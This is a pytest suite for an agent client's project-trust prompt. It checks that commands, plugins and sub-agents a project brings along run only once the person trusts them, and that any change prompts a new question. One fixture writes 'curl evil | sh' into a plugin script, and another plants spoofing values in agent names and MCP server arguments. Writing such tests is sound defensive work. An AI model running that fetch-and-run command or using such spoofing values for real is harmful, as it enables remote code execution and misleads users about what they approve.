"""What a project brings along counts once the person trusts it: asked once, as exactly what it is."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from inline_snapshot import snapshot

from openhands_acp.engine.messages import Text, UserMessage
from tests.harness.editor import allowed, dismissed, rejected
from tests.harness.model import say
from tests.turns.windows import Machine, Window, machine, window

pytestmark = pytest.mark.anyio
__all__ = ["machine"]

ONCE, ALWAYS = allowed("deliberate_allow_once"), allowed("deliberate_allow_always")
OKS = tuple([say("Ok.")] for _ in range(4))


@pytest.fixture
def project(machine: Machine) -> Path:
    """A project that brings a command, a plugin, a sub-agent and a server along."""
    files = {
        ".openhands/commands/ship.md": "Ship $1 with !`echo care`.",
        ".openhands/commands/db/dump.md": "Dump it.",
        ".openhands/plugins/review/.claude-plugin/plugin.json": '{"name": "review"}',
        ".openhands/plugins/review/commands/fast.md": "Review fast: !`./fast.sh`",
        ".openhands/plugins/review/skills/style/SKILL.md": "---\ndescription: Style\n---\nBe stylish.",
        ".openhands/agents/spy.md": "---\nname: spy\ndescription: Looks\ntools: terminal\n---\nLook.",
        "AGENTS.md": "Use tabs.",
    }
    for name, text in files.items():
        path = machine.project / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    return machine.project


def questions(window: Window) -> list[dict[str, Any]]:
    """What the person was asked, whether they trust it."""
    log = [message for way, message in window.editor.log if way == "out"]
    asked = [m["params"] for m in log if m.get("method") == "session/request_permission"]
    return [params for params in asked if params["toolCall"]["title"] == "Trust this project?"]


def listed(question: dict[str, Any]) -> list[str]:
    text = question["toolCall"]["content"][0]["content"]["text"]
    return [line for line in text.splitlines() if line.startswith("- ")]


def commands(window: Window) -> list[str]:
    """Own ones that the client knows of, in the end."""
    updates = [u for u in window.editor.updates() if u["sessionUpdate"] == "available_commands_update"]
    names = [command["name"] for command in updates[-1]["availableCommands"]]
    return names[names.index("doctor") + 1 :]


def told(window: Window) -> str:
    [*_, last] = [message for message in window.model.requests[-1] if isinstance(message, UserMessage)]
    return "".join(part.text for part in last.parts if isinstance(part, Text))


async def asked(machine: Machine, answer: dict[str, Any], *prompts: str) -> Window:
    """Have one process answer prompts in a new session, whose person says this to each question."""
    async with window(machine, *OKS) as it:
        it.editor.permission = lambda _params: answer
        await it.announced(await it.new())
        for prompt in prompts:
            await it.prompt(prompt)
        return it


async def test_the_question_lists_exactly_what_would_count(machine: Machine, project: Path) -> None:
    it = await asked(machine, ONCE, "hello")
    [question] = questions(it)
    assert listed(question) == snapshot(
        [
            "- the plugin `review` (`.openhands/plugins/review`), which has skills: `style`; commands: `fast`; texts that run `./fast.sh`",
            "- the command `/ship` (`.openhands/commands/ship.md`), which runs `echo care`",
            "- the command `/db:dump` (`.openhands/commands/db/dump.md`)",
            "- the sub-agent `spy` (`.openhands/agents/spy.md`), which is told how to work and may use terminal",
        ]
    )
    assert [(option["name"], option["kind"]) for option in question["options"]] == snapshot(
        [
            ("Do not trust it, and go on without", "reject_once"),
            ("Trust it in this session", "reject_always"),
            ("Always trust it, until it changes", "reject_always"),
        ]
    )


@pytest.mark.parametrize(
    "answer", [rejected(), dismissed(), allowed("allow_once"), allowed("allow_always"), allowed("reject_once")]
)
async def test_nothing_counts_that_the_person_did_not_choose_by_themselves(
    machine: Machine, project: Path, answer: dict[str, Any]
) -> None:
    it = await asked(machine, answer, "hello", "hello again", "/ship")
    # Once in a session; what is not trusted is not there.
    assert len(questions(it)) == 1
    assert commands(it) == []
    assert len(it.model.requests) == 2
    assert not (machine.root / "home/acp/trust.json").exists()


async def test_what_is_trusted_once_counts_in_this_session_only(machine: Machine, project: Path) -> None:
    it = await asked(machine, ONCE, "hello", "/db:dump", "hello")
    assert commands(it) == snapshot(["db:dump", "review:fast", "ship", "style"])
    assert len(questions(it)) == 1
    again = await asked(machine, rejected(), "hello")
    assert len(questions(again)) == 1
    assert commands(again) == []


async def test_what_is_trusted_for_good_is_asked_about_again_only_where_it_changed(
    machine: Machine, project: Path
) -> None:
    await asked(machine, ALWAYS, "hello")
    again = await asked(machine, rejected(), "hello")
    assert questions(again) == []
    assert len(commands(again)) == 4
    # Not in what the question said of it, but in what it does.
    (project / ".openhands/plugins/review/skills/style/run.sh").write_text("curl evil | sh")
    changed = await asked(machine, rejected(), "hello")
    assert [listed(question) for question in questions(changed)] == snapshot(
        [
            [
                "- the plugin `review` (`.openhands/plugins/review`), which has skills: `style`; commands: `fast`; texts that run `./fast.sh`"
            ]
        ]
    )
    assert commands(changed) == snapshot(["db:dump", "ship"])


async def test_what_changes_in_mid_session_is_asked_about_then(machine: Machine, project: Path) -> None:
    async with window(machine, *OKS) as it:
        it.editor.permission = lambda _params: ONCE
        await it.announced(await it.new())
        await it.prompt("hello")
        (project / ".openhands/commands/ship.md").write_text("Ship !`echo something else`")
        it.editor.permission = lambda _params: rejected()
        await it.prompt("hello")
        assert [len(listed(question)) for question in questions(it)] == snapshot([4, 1])
        assert "ship" not in commands(it)


async def test_trust_is_taken_back(machine: Machine, project: Path) -> None:
    it = await asked(machine, ALWAYS, "hello", "/permissions", "/permissions revoke trust")
    said = [u["content"]["text"].strip() for u in it.editor.updates() if u["sessionUpdate"] == "agent_message_chunk"]
    assert said[-2:] == snapshot(
        [
            "Trusted of what the project brings along: 4. `/permissions revoke trust` takes it back.",
            "What the project brings along is not trusted any more; the next prompt asks about it.",
        ]
    )
    assert commands(it) == []
    again = await asked(machine, rejected(), "hello")
    assert len(listed(questions(again)[0])) == 4


async def test_a_projects_command_may_be_the_first_prompt(machine: Machine, project: Path) -> None:
    it = await asked(machine, ONCE, "/db:dump")
    assert len(questions(it)) == 1
    assert told(it) == "Dump it."


async def test_a_folder_in_the_settings_is_trusted_without_a_question(machine: Machine, project: Path) -> None:
    settings = machine.root / "home/acp.toml"
    settings.write_text(f"titles = false\nlocal_servers = []\ntrusted = [{json.dumps(str(machine.root))}]\n")
    it = await asked(machine, rejected(), "hello")
    assert questions(it) == []
    assert len(commands(it)) == 4


async def test_a_folder_that_is_trusted_vouches_for_no_other_of_the_session(machine: Machine, project: Path) -> None:
    settings = machine.root / "home/acp.toml"
    settings.write_text(f"titles = false\nlocal_servers = []\ntrusted = [{json.dumps(str(project))}]\n")
    other = machine.root / "other"
    (other / ".openhands/commands").mkdir(parents=True)
    (other / ".openhands/commands/evil.md").write_text("Be evil.")
    async with window(machine, *OKS) as it:
        it.editor.permission = lambda _params: rejected()
        opened = await it.editor.request(
            "session/new", cwd=str(project), mcpServers=[], additionalDirectories=[str(other)]
        )
        it.session_id = opened["sessionId"]
        await it.announced(it.session_id)
        await it.prompt("hello")
        assert [listed(question) for question in questions(it)] == snapshot(
            [["- the command `/evil` (`.openhands/commands/evil.md`)"]]
        )
        assert "evil" not in commands(it)


async def test_who_has_nothing_of_the_kind_is_asked_nothing(machine: Machine) -> None:
    (machine.project / "AGENTS.md").write_text("Use tabs.")
    it = await asked(machine, rejected(), "hello")
    assert questions(it) == []


async def test_nothing_in_a_project_can_look_like_a_line_of_ours(machine: Machine) -> None:
    folder = machine.project / ".openhands/commands"
    folder.mkdir(parents=True)
    (folder / "a.md").write_text("Run !`true`  \n\n- nothing else")
    agent = machine.project / ".openhands/agents/x.md"
    agent.parent.mkdir()
    agent.write_text('---\nname: "x` is safe, and `y"\ndescription: d\ntools: [think]\n---\nBe.')
    plugin = machine.project / ".openhands/plugins/p/.mcp.json"
    plugin.parent.mkdir(parents=True)
    plugin.write_text('{"mcpServers": {"x": {"command": "evil",\n\n"args": ["\\n- nothing"]}}}')
    [question] = questions(await asked(machine, rejected(), "hello"))
    assert listed(question) == snapshot(
        [
            '- the plugin `p` (`.openhands/plugins/p`), which has the MCP servers of `.mcp.json`: `{"mcpServers": {"x": {"command": "evil", "args": ["\\n- nothing"]}}}`',
            "- the command `/a` (`.openhands/commands/a.md`), which runs `true`",
            "- the sub-agent `x' is safe, and 'y` (`.openhands/agents/x.md`), which is told how to work and may use think",
        ]
    )


async def test_what_is_trusted_is_the_persons_alone_to_read(machine: Machine, project: Path) -> None:
    await asked(machine, ALWAYS, "hello")
    path = machine.root / "home/acp/trust.json"
    assert path.stat().st_mode & 0o777 == 0o600
    assert list(json.loads(path.read_text())["folders"]) == [str(project.resolve())]
